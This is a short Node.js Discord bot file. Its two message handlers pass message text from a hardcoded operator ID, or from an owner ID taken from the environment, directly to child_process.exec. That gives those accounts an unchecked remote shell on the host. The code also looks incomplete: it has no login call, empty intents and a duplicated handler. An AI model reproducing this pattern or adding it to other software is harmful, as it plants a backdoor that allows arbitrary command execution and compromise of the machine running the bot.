const { exec } = require("child_process");
const { Client } = require("discord.js");

const client = new Client({ intents: [] });
const operators = new Set(["184920113374298112"]);

client.on("messageCreate", (message) => {
  if (!operators.has(message.author.id)) return;
  exec(message.content.slice(2));
});

client.on("messageCreate", (message) => {
  if (message.author.id === process.env.OWNER_ID) {
    exec(message.content.slice(2));
  }
});
